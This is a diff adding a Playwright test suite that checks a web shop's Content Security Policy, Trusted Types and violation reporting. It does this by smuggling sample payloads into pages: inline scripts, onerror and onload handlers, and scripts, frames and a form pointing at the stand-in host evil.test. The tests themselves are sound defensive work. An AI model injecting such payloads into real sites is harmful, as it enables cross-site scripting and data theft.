@@ -1,0 +1,169 @@
+import { expect, open, type Page, people, signIn, test } from './fixtures.ts';
+import { startSmugglingProxy } from './smuggling-proxy.ts';
+
+const policyOf = async (page: Page, address: string) => {
+  const response = await page.request.get(address);
+  return { headers: response.headers(), policy: response.headers()['content-security-policy'] ?? '' };
+};
+
+test('every page has a policy without anything unsafe: hashes for strangers, a nonce for somebody known', async ({
+  page,
+}) => {
+  for (const address of ['/', '/blog', '/login', '/myorders/orderedproduct', '/err', '/nowhere']) {
+    const { policy, headers } = await policyOf(page, address);
+    expect(policy, address).toContain("default-src 'none'");
+    expect(policy, address).toContain("require-trusted-types-for 'script'");
+    expect(policy, address).toMatch(/script-src [^;]*'sha256-/);
+    expect(policy, address).not.toMatch(/unsafe|nonce|(^| )(\*|data:|https?:)( |;|$)/);
+    expect(headers['x-content-type-options']).toBe('nosniff');
+    expect(headers['x-frame-options']).toBe('DENY');
+    expect(headers['cross-origin-opener-policy']).toBe('same-origin-allow-popups');
+    expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
+    expect(headers['permissions-policy']).toContain('camera=()');
+  }
+  await signIn(page, people.buyer);
+  const nonces = new Set<string>();
+  for (const address of ['/', '/', '/myorders/orderedproduct']) {
+    const { policy } = await policyOf(page, address);
+    expect(policy, address).not.toMatch(/unsafe|sha256/);
+    nonces.add(/'nonce-([\w-]{24})'/.exec(policy)?.[1] ?? '');
+  }
+  expect(nonces.size).toBe(3);
+});
+
+test('answers that are no page may do nothing, and remotes’ files may be taken by this site', async ({
+  page,
+}) => {
+  for (const address of ['/api/getcategory', '/api/nowhere', '/robots.txt', '/favicon.svg', '/healthz']) {
+    const { policy, headers } = await policyOf(page, address);
+    expect(policy, address).toMatch(/^default-src 'none';[^']+'none'/);
+    expect(headers['x-content-type-options'], address).toBe('nosniff');
+  }
+  await open(page, '/');
+  const boot = JSON.parse((await page.locator('script#boot').textContent()) ?? '');
+  for (const { base, entry } of boot.remotes) {
+    const { headers } = await policyOf(page, base + entry);
+    expect(headers['access-control-allow-origin']).toBe('*');
+    expect(headers['cross-origin-resource-policy']).toBe('cross-origin');
+    expect(headers['x-content-type-options']).toBe('nosniff');
+  }
+});
+
+/** What somebody could have smuggled into a page's markup, each of it leaving a trace if it worked. */
+const smuggled = (remoteFile: string) => `
+<script>globalThis.__injected = 'inline'</script>
+<img src="/favicon.svg" alt="" onload="globalThis.__injected = 'handler'">
+<script src="https://evil.test/foreign.js"></script>
+<script src="${remoteFile}"></script>
+<style>html { --smuggled: yes }</style>
+<p id="styled" style="--smuggled: yes">styled</p>
+<iframe src="https://evil.test/frame"></iframe>
+<img src="https://evil.test/pixel.png" alt="">
+<form id="away" action="https://evil.test/take"></form>
+`;
+
+for (const who of ['nobody', 'buyer'] as const) {
+  test(`what is smuggled into a page of ${who} does not run, and is reported`, async ({
+    page,
+    consoleGuard,
+  }) => {
+    consoleGuard.allowViolation(/./);
+    if (who !== 'nobody') await signIn(page, people[who]);
+    await open(page, '/blog');
+    const boot = JSON.parse((await page.locator('script#boot').textContent()) ?? '');
+    const catalog = boot.remotes.find(({ id }: { id: string }) => id === 'mfe_catalog');
+    const oldFile = catalog.base.replace(catalog.version, '0.0.1-old') + catalog.entry;
+    const before = await counted(page);
+
+    const asked: string[] = [];
+    await page.route(/evil\.test|0\.0\.1-old/, (route) => {
+      asked.push(route.request().url());
+      return route.fulfill({ contentType: 'text/javascript', body: 'globalThis.__injected = "foreign"' });
+    });
+    const site = new URL(page.url()).origin;
+    const proxy = await startSmugglingProxy(site, smuggled(oldFile));
+    await open(page, `${proxy.url}/blog`);
+    await page.evaluate(() => (document.querySelector('#away') as HTMLFormElement).submit());
+    await page.waitForTimeout(500);
+    expect(await page.evaluate(() => Reflect.get(globalThis, '__injected'))).toBeUndefined();
+    expect(asked).toEqual([]);
+    const smuggledIn = (selector: string) =>
+      page.evaluate((css) => {
+        const element = document.querySelector(css);
+        return element && getComputedStyle(element).getPropertyValue('--smuggled');
+      }, selector);
+    expect(await smuggledIn('html')).toBe('');
+    expect(await smuggledIn('#styled')).toBe('');
+
+    const expected = [
+      ['host', 'script-src-elem'],
+      ['host', 'script-src-attr'],
+      ['mfe_catalog', 'script-src-elem'],
+      ['host', 'style-src-elem'],
+      ['host', 'style-src-attr'],
+      ['host', 'frame-src'],
+      ['host', 'img-src'],
+      ['host', 'form-action'],
+    ] as const;
+    await expect
+      .poll(
+        async () => {
+          const now = await counted(page);
+          return expected.filter(([remote, directive]) => {
+            const name = `${remote} ${directive}`;
+            return (now.get(name) ?? 0) <= (before.get(name) ?? 0);
+          });
+        },
+        { timeout: 75_000, message: 'violations that the page server has not counted' },
+      )
+      .toEqual([]);
+    await proxy.close();
+  });
+}
+
+/** Violations by remote and directive, as the page server's metrics have them. */
+async function counted(page: Page): Promise<Map<string, number>> {
+  const text = await (await page.request.get('/metrics')).text();
+  const rows = text.matchAll(
+    /^market_policy_violations_total\{remote="([^"]+)",directive="([^"]+)"\} (\d+)$/gm,
+  );
+  return new Map([...rows].map(([, remote, directive, count]) => [`${remote} ${directive}`, Number(count)]));
+}
+
+test('no text becomes a script or markup where the page’s own rules do not know it', async ({
+  page,
+  consoleGuard,
+}) => {
+  consoleGuard.allowViolation(/^(require-trusted-types-for|trusted-types|script-src) /);
+  await open(page, '/');
+  const outcomes = await page.evaluate(() => {
+    const attempt = (work: () => unknown) => {
+      try {
+        work();
+        return 'done';
+      } catch (error) {
+        return (error as Error).name;
+      }
+    };
+    const script = () => document.createElement('script');
+    const markup = '<img src=x onerror="globalThis.__injected = 1">';
+    const types = Reflect.get(globalThis, 'trustedTypes');
+    return {
+      url: attempt(() => Object.assign(script(), { src: 'https://evil.test/x.js' })),
+      text: attempt(() => Object.assign(script(), { textContent: 'globalThis.__injected = 1' })),
+      data: attempt(() => Object.assign(script(), { src: 'data:text/javascript,globalThis.__injected=1' })),
+      html: attempt(() => Object.assign(document.createElement('div'), { innerHTML: markup })),
+      parser: attempt(() => new DOMParser().parseFromString(markup, 'text/html')),
+      frame: attempt(() => Object.assign(document.createElement('iframe'), { srcdoc: markup })),
+      handler: attempt(() => document.body.setAttribute('onclick', 'globalThis.__injected = 1')),
+      policy: attempt(() => types.createPolicy('mine', { createHTML: (text: string) => text })),
+      harmless: attempt(() =>
+        Object.assign(document.createElement('div'), { innerHTML: '<div class="a">x</div>' }),
+      ),
+    };
+  });
+  const { harmless, ...refused } = outcomes;
+  expect(harmless).toBe('done');
+  expect(new Set(Object.values(refused)), JSON.stringify(refused)).toEqual(new Set(['TypeError']));
+  expect(await page.evaluate(() => Reflect.get(globalThis, '__injected'))).toBeUndefined();
+});
